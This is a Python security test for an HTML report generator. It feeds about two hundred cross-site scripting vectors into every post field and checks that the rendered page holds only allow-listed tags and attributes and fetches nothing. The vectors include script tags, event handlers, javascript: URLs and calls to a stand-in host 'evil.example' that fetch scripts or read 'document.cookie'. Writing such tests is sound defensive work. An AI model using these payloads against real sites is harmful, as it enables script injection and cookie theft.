#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""No post can put markup into the page: whatever stands in a field, the page holds our elements and attributes and nothing else.

Two hundred vectors stand in every field that can reach it; the page is read by a plain HTML parser against a list of what
it may hold, and it must be able to fetch nothing.
"""
import html.parser
import itertools
import json
import pathlib
import re
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from support import Findings, plain_post, remove, run, scratch, tool  # noqa: E402

SCRIPTS = ["alert(1)", "fetch('//evil.example')", "document.cookie"]
OPENERS = ["<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
           "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>", "<a href=' &#106;avascript:{}'>x</a>", "<details open ontoggle={}>",
           "<input autofocus onfocus={}>", "<math><mtext><img src=x onerror={}>", "<style>@import '//evil.example';</style>{}", "<link rel=stylesheet href=//evil.example>{}",
           "<meta http-equiv=refresh content='0;url=//evil.example'>{}", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>", "<base href=//evil.example/>{}"]
BREAKERS = ["", "\">", "'>", "</title>", "</style>", "</td></tr></table>", "-->", "]]>", "</svg>", "\" onmouseover=\"{}\" x=\"", "' onfocus='{}' autofocus='"]
VECTORS = [breaker.format(script) + opener.format(script) for breaker, opener, script in
           itertools.islice(((b, o, SCRIPTS[n % 3]) for n, (b, o) in enumerate(itertools.product(BREAKERS, OPENERS))), 200)]
URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
        "https://a.example/\"onmouseover=\"alert(1)", "//evil.example", "https://a.example/<script>", "file:///etc/passwd", "\x01javascript:alert(1)", "https:javascript:alert(1)"]

TAGS = {"html", "head", "meta", "title", "style", "link", "body", "header", "main", "footer", "section", "article", "nav", "h1", "h2", "h3", "h4", "p", "div", "span", "a", "ul", "ol", "li", "dl", "dt", "dd",
        "table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "col", "colgroup", "details", "summary", "figure", "figcaption", "small", "strong", "em", "b", "code", "time", "br", "abbr", "sup",
        "svg", "g", "rect", "line", "path", "polyline", "polygon", "circle", "text", "tspan", "desc", "defs", "pattern", "use", "symbol", "lineargradient", "stop", "clippath", "bdi"}
ATTRIBUTES = re.compile(r"^(id|class|lang|dir|charset|name|content|http-equiv|href|rel|title|scope|colspan|rowspan|role|style|open|datetime|aria-[a-z]+|viewbox|width|height|x|y|x1|x2|y1|y2|cx|cy|r|rx|ry|d|dx|dy|"
                        r"points|fill|fill-opacity|stroke|stroke-width|stroke-dasharray|stroke-linecap|stroke-linejoin|transform|text-anchor|dominant-baseline|font-size|font-weight|preserveaspectratio|xmlns|"
                        r"opacity|offset|stop-color|patternunits|patterntransform|shape-rendering|vector-effect|focusable|tabindex|data-[a-z-]+)$")


class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.wrong = []
        self.styles = []
        self.in_style = False
        self.policy = ""
        self.words = []

    def handle_starttag(self, tag, attributes):
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        self.in_style = tag == "style"
        for name, value in attributes:
            value = value or ""
            if not ATTRIBUTES.match(name):
                self.wrong.append(f"<{tag} {name}>")
            if (tag, name, value) == ("link", "href", "data:,"):
                continue  # no icon, so that none is asked for
            if name == "href" and not re.match(r"^(https?://|#)", value):
                self.wrong.append(f"href={value!r}")
            if name == "style":
                self.styles.append(value)
        got = dict(attributes)
        if tag == "meta" and (got.get("http-equiv") or "").lower() == "content-security-policy":
            self.policy = got.get("content") or ""
        elif tag == "meta" and "http-equiv" in got:
            self.wrong.append(f"<meta http-equiv={got['http-equiv']}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "style":
            self.in_style = False

    def handle_data(self, data):
        (self.styles if self.in_style else self.words).append(data)


def check_page(found, what, page):
    parser = Page()
    parser.feed(page)
    parser.close()
    found.check(not parser.wrong, f"{what}: the page holds {parser.wrong[:5]}")
    found.check("default-src 'none'" in parser.policy, f"{what}: its policy is {parser.policy!r}")
    styles = " ".join(parser.styles)
    found.check(not re.search(r"url\((?!#)|@import|expression\(|</", styles), f"{what}: a style fetches or breaks out")
    found.check(not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", page), f"{what}: the page holds control bytes")
    return "".join(parser.words)


def hostile(vector, number, fields):
    post = plain_post(number, text=vector, network="forum", classify={"sentiment": {"label": "negative"}}, time="2024-05-01T10:00:00Z")
    for field in fields:
        if field == "brand":
            post["listen"] = {"brands": [vector]}
        elif field == "author":
            post["author"] = {"id": vector, "handle": vector, "name": vector, "followers": 10_000_000}
        elif field == "extra":
            post["extra"] = {"x": vector}
        else:
            post[field] = vector
    return post


def check_field(found, folder, field, vectors, options=()):
    # At most 20 groups are shown on a page.
    for begin in range(0, len(vectors), 20):
        some = vectors[begin:begin + 20]
        given = "".join(json.dumps(hostile(vector, number, [field])) + "\n" for number, vector in enumerate(some))
        done = run([tool("sc-report"), "daily", "-f", "html", "--loudest", "100", "--show-text", *options], given.encode())
        found.check(done.returncode == 0, f"{field}: exit {done.returncode}, {done.stderr[:200]!r}")
        words = check_page(found, f"{field} {begin}", done.stdout.decode())
        if field == "text":
            missing = [vector for vector in some if re.sub(r"\s+", " ", vector) not in re.sub(r"\s+", " ", words)]
            found.check(not missing, f"text: not shown as text: {missing[:2]}")


def main():
    found = Findings()
    folder = scratch()
    found.check(len(VECTORS) >= 200, f"only {len(VECTORS)} vectors")
    for field in ("brand", "network", "text", "id", "lang", "account", "kind", "author"):
        check_field(found, folder, field, VECTORS)
    check_field(found, folder, "extra", VECTORS, ["--by", "extra.x"])
    check_field(found, folder, "url", URLS + VECTORS)
    post = json.dumps(plain_post(1)).encode() + b"\n"
    for number, vector in enumerate(VECTORS):
        source = {"type": "source", "tool": vector, "file": vector, "format": vector, "rows": 1, "posts": 1, "rejects": 1, "reasons": {vector: 1}, "zone": vector, "remarks": [vector]}
        if number % 10 == 0:
            done = run([tool("sc-report"), "daily", "-f", "html"], post + json.dumps(source).encode() + b"\n")
            check_page(found, f"source {number}", done.stdout.decode())
    named = folder / "<img src=x onerror=alert(1)>&\"'.ndjson"
    named.write_bytes(post + b"broken\n")
    check_page(found, "file name", run([tool("sc-report"), "daily", "-f", "html", "--max-errors", "100%", named]).stdout.decode())
    for form in ("md",):
        done = run([tool("sc-report"), "daily", "-f", form, "--loudest", "9", "--show-text"], json.dumps(hostile("<script>alert(1)</script>", 1, ["brand"])).encode() + b"\n")
        found.check(re.search(rb"(?<!\\)<script", done.stdout) is None, "Markdown passes markup on")
    remove(folder)
    found.finish("no post can put markup into the page")


if __name__ == "__main__":
    main()
